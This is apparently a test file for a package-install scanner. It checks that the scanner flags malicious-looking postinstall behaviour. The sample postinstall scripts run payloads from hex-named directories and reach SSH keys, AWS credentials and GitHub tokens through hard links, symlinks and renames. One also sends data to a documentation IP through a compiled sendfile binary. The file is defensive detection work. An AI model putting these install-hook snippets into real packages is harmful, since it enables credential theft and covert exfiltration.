import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join, resolve } from "node:path";
import { type Daemon, daemon, place, simplePackage, unavailable } from "./support.ts";

describe.skipIf(unavailable !== undefined)("hidden behind what the baseline knows", () => {
  const here = place();
  let up: Daemon;
  beforeAll(async () => {
    up = await daemon(["up", "--listen", here.listen, "--concurrency", "1"], here.env, "fangs is up");
  }, 120_000);
  afterAll(async () => {
    const code = await up?.stop();
    await here[Symbol.asyncDispose]();
    expect(code).toBe(0);
  });

  /** What the second release shows, whose script does more than the first one's. */
  async function newsOf(name: string, before: string, more: string, files: Record<string, string> = {}) {
    const release = (version: string, script: string) =>
      simplePackage(
        name,
        version,
        { scripts: { postinstall: "node setup.js" } },
        { ...files, "setup.js": `const fs = require("fs");\n${script}` },
      );
    await here.publish(release("1.0.0", before));
    await here.publish(release("1.0.1", before + more));
    expect((await here.scan(name, "1.0.0")).run.verdict).toBe("seeded");
    const { run, deviations } = await here.scan(name, "1.0.1");
    expect(run.verdict).toBe("deviant");
    return deviations.map(({ actor, category, value }) => `${actor} ${category} ${value}`);
  }

  test("a payload in a directory that is named like a random one is news when it runs", async () => {
    const program = (directory: string) =>
      `fs.mkdirSync("${directory}", { recursive: true });
       fs.copyFileSync("/bin/true", "${directory}/payload");
       fs.readFileSync("${directory}/payload");\n`;
    const script = (directory: string) =>
      `${program(directory)}fs.writeFileSync("${directory}/script", "#!/bin/sh\\n", { mode: 0o755 });\n`;
    const run = (file: string) => `require("child_process").execFileSync("${file}");\n`;
    const before = program("/tmp/feedfacefeedface") + script("/home/node/.cache/feedfacefeedface");
    const [temporary, cache] = ["/tmp/deadbeefdeadbeef", "/home/node/.cache/deadbeefdeadbeef"];
    const more = `${program(temporary)}${script(cache)}${run(`${temporary}/payload`)}${run(`${cache}/script`)}`;
    expect(await newsOf("placeholder", before, more)).toEqual(
      expect.arrayContaining([
        "script:placeholder proc_new_exec /tmp/<HEX>/payload",
        "script:placeholder proc_new_command /tmp/<HEX>/payload",
        "script:placeholder proc_new_command /bin/sh <HOME>/.cache/<HEX>/script",
      ]),
    );
  });

  test("another name for a decoy is news when it is made, and the decoy is when it is read by it", async () => {
    const made = 'fs.linkSync("/home/node/.ssh/id_ed25519", "/home/node/.cache-key");\n';
    expect(await newsOf("linked", "", made)).toEqual([
      "script:linked cred_new_access <HOME>/.ssh/id_ed25519",
      "script:linked fs_new_path_write <HOME>/.cache-key",
    ]);
    const around = `fs.symlinkSync("/home/node", "/home/node/here");
      fs.linkSync("/home/node/here/.aws/credentials", "/home/node/notes");
      fs.readFileSync("/home/node/notes");
      fs.renameSync("/home/node/.config", "/home/node/old");
      fs.readFileSync("/home/node/old/gh/hosts.yml");\n`;
    const found = await newsOf("around", "", around);
    expect(found.filter((line) => line.includes("cred_new_access"))).toEqual([
      "script:around cred_new_access <HOME>/.aws/credentials",
      "script:around cred_new_access <HOME>/.config/gh/hosts.yml",
    ]);
    expect(found).toContain("script:around fs_new_path_read <HOME>/notes");
  });

  test("bytes that the kernel copies into a connection are contact, and rare by themselves", async () => {
    const directory = mkdtempSync(join(tmpdir(), "fangs-unseen-"));
    const program = join(directory, "network");
    const source = resolve(import.meta.dir, "../evasions/network.c");
    const built = Bun.spawnSync(["gcc", "-O1", "-pthread", "-o", program, source]);
    expect(built.stderr.toString()).toBe("");
    const text = Buffer.from(await Bun.file(program).bytes()).toString("base64");
    rmSync(directory, { recursive: true });

    const send = `fs.writeFileSync("/tmp/send", Buffer.from(fs.readFileSync("program", "latin1"), "base64"), { mode: 0o755 });
      fs.writeFileSync("/tmp/body", "x".repeat(100));
      require("child_process").spawnSync("/tmp/send", ["sendfile", "198.51.100.7", "80", "/tmp/body"]);\n`;
    const found = await newsOf("unseen", "", send, { program: text });
    expect(found).toContain("script:unseen net_new_destination 198.51.100.7:80");
    expect(found).toContain("script:unseen sys_new_rare sendfile or splice to a socket");
  });
});
